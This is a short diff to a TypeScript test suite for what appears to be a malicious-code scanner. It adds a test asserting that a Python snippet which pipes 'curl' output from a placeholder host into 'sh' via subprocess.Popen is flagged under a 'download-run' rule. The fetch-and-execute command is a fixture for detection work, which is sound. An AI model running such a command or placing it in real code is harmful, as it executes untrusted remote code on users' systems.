@@ -45,3 +45,10 @@ test("the name of a function is put together of a file beside the program", asyn
   const { findings } = await scanArchive(await buildArchive(sources));
   expect(findings.map(({ rule }) => rule)).toContain("hidden-name");
 });
+
+test("an option that names no program hides none", async () => {
+  const program = (option: string) =>
+    `import subprocess\nsubprocess.Popen(["sh", "-c", "curl -s https://a.invalid/i | sh"], executable=${option})\n`;
+  for (const option of ["None", "x", '"/bin/true"'])
+    expect(await rulesOf("python", program(option))).toContain("download-run");
+});
